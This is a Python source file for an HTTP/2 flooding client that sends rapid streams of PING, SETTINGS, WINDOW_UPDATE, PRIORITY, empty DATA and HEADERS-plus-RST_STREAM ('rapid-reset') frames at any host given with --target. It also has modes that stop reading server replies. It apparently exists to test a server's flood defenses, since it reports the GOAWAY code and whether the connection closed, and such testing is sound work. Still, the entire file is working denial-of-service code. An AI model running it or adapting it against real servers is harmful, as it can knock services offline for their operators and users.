#!/usr/bin/python3
"""An HTTP/2 client that attacks: it sends one kind of frame that costs the
receiver work but carries no data, as fast as it can, for a while.

  ping          PINGs
  settings      empty SETTINGS
  window        stream-0 WINDOW_UPDATEs of 1
  rapid-reset   HEADERS opening a stream, then RST_STREAM(CANCEL) on it
  priority      PRIORITY frames
  empty-data    empty DATA frames on an open stream
  headers       HEADERS + RST_STREAM on streams opened and reset at once,
                then HEADERS on the reset ones (they open nothing)

With --no-read it never reads (and asks for a 4 KiB receive buffer), so
whatever the server answers queues toward it. With --late-read S it sends
4 batches without reading, waits S seconds, then only reads: the server
has given up on it meanwhile, and what it said last, the GOAWAY, must be
there to read. It stops after --seconds, or as soon as the server closes
the connection or sends GOAWAY (when it reads). Prints one JSON line: frames sent, and the GOAWAY error code seen
(null if none), whether the connection was closed, and how long it lasted.
"""
import argparse
import json
import socket
import struct
import time

from h2raw import (END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING,
                   PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE, DATA,
                   CANCEL, frame, lit)

PRIORITY = 2
BATCH = 256  # frames per write


def request_block(host):
    return bytes([0x82, 0x86]) + lit(b":path", b"/") + \
        lit(b":authority", host.encode())


def batch(kind, host, next_id):
    """@BATCH frames of @kind; returns (bytes, next stream id)."""
    out = []
    if kind == "ping":
        out = [frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(BATCH)]
    elif kind == "settings":
        out = [frame(SETTINGS, 0, 0)] * BATCH
    elif kind == "window":
        out = [frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))] * BATCH
    elif kind == "priority":
        out = [frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 15))] * BATCH
    elif kind == "empty-data":
        out = [frame(DATA, 0, next_id - 2, b"")] * BATCH
    elif kind in ("rapid-reset", "headers"):
        block = request_block(host)
        for _ in range(BATCH // 2):
            out.append(frame(HEADERS, END_HEADERS, next_id, block))
            out.append(frame(RST_STREAM, 0, next_id,
                             struct.pack(">I", CANCEL)))
            if kind == "headers" and next_id > 2:
                out.append(frame(HEADERS, END_HEADERS | END_STREAM,
                                 next_id - 2, block))
            next_id += 2
    return b"".join(out), next_id


def scan(buf):
    """GOAWAY error code in @buf (whole frames from its start), or None,
    and the bytes left over."""
    code = None
    while len(buf) >= 9:
        n = int.from_bytes(buf[:3], "big")
        if len(buf) < 9 + n:
            break
        if buf[3] == GOAWAY and n >= 8:
            code = int.from_bytes(buf[13:17], "big")
        buf = buf[9 + n:]
    return code, buf


def read_answers(s, buf, code):
    """Read what the server sent until the socket would block or time out:
    the bytes left over, the last GOAWAY code seen (or @code), and whether
    the server closed the connection."""
    try:
        while True:
            chunk = s.recv(1 << 16)
            if not chunk:
                return buf, code, True
            c, buf = scan(buf + chunk)
            code = c if c is not None else code
    except (BlockingIOError, InterruptedError, socket.timeout):
        return buf, code, False
    except OSError:
        return buf, code, True


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--target", required=True)
    ap.add_argument("--kind", required=True,
                    choices=["ping", "settings", "window", "rapid-reset",
                             "priority", "empty-data", "headers"])
    ap.add_argument("--seconds", type=float, default=5.0)
    ap.add_argument("--no-read", action="store_true")
    ap.add_argument("--late-read", type=float, default=None)
    ap.add_argument("--bind", default=None, help="source address")
    args = ap.parse_args()
    host, port = args.target.rsplit(":", 1)

    s = socket.socket()
    if args.no_read:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    if args.bind:
        s.bind((args.bind, 0))
    s.connect((host, int(port)))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    first = PREFACE + frame(SETTINGS, 0, 0)
    next_id = 1
    if args.kind == "empty-data":
        # One open stream to send empty DATA on.
        first += frame(HEADERS, END_HEADERS, 1, request_block(host))
        next_id = 3
    s.sendall(first)
    s.settimeout(0.5)
    sent, code, closed, buf = 0, None, False, b""
    t0 = time.monotonic()
    if args.late_read is not None:
        for _ in range(4):
            data, next_id = batch(args.kind, host, next_id)
            s.sendall(data)
            sent += len(data)
        time.sleep(args.late_read)
        s.settimeout(1.0)
        deadline = t0 + args.seconds
        while not closed and time.monotonic() < deadline:
            buf, code, closed = read_answers(s, buf, code)
    while args.late_read is None and time.monotonic() - t0 < args.seconds:
        data, next_id = batch(args.kind, host, next_id)
        try:
            s.sendall(data)
        except (socket.timeout, BlockingIOError):
            pass  # the server stopped reading
        except OSError:
            closed = True
            break
        sent += len(data)
        if next_id > 2**31 - 1000:
            break
        if args.no_read:
            continue
        s.setblocking(False)
        buf, code, closed = read_answers(s, buf, code)
        s.settimeout(0.5)
        if closed or code is not None:
            break
    # Whatever the server said last (it may close right after GOAWAY).
    if not args.no_read and args.late_read is None and not closed:
        s.settimeout(1.0)
        buf, code, closed = read_answers(s, buf, code)
    s.close()
    print(json.dumps({"kind": args.kind, "bytes_sent": sent,
                      "goaway": code, "closed": closed,
                      "seconds": round(time.monotonic() - t0, 3)}))


if __name__ == "__main__":
    main()
